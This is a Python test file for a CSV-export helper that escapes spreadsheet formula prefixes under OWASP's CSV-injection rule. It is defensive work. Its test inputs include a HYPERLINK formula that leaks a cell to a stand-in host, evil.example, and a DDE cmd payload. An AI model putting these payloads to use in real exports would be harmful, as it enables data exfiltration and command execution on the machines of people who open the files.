"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP's rule)."""

from __future__ import annotations

import csv
import io

import pytest

from backend.spreadsheets import FORMULA_PREFIXES, csv_text, escape_cell, escape_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_given_a_cell_beginning_like_a_formula_when_escaped_then_it_gets_a_leading_quote(text):
    assert escape_cell(text) == "'" + text


def test_every_prefix_of_the_owasp_rule_is_covered():
    assert set(FORMULA_PREFIXES) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.mark.parametrize("value", ["Ada", "Ada = kind", "", " =1", "'quoted", 3, 2.5, None])
def test_given_plain_text_or_a_number_when_escaped_then_it_is_unchanged(value):
    assert escape_cell(value) == value


def test_given_a_negative_number_when_escaped_then_it_stays_a_number():
    """Only strings are escaped: numbers we write ourselves stay numbers."""
    assert escape_cell(-3) == -3


def test_given_trusted_columns_when_a_row_is_escaped_then_only_the_other_cells_change():
    row = {"name": "-Ada", "hours": "-1.00", "entries": 2}
    assert escape_row(row, trusted=("hours", "entries")) == {
        "name": "'-Ada",
        "hours": "-1.00",
        "entries": 2,
    }


def test_given_rows_when_written_then_the_csv_reads_back_with_escaped_text_and_plain_numbers():
    text = csv_text(
        [{"id": 7, "name": '=HYPERLINK("x","y")', "hours": "3.50"}],
        columns=["id", "name", "hours"],
        trusted=("id", "hours"),
    )
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows == [{"id": "7", "name": '\'=HYPERLINK("x","y")', "hours": "3.50"}]
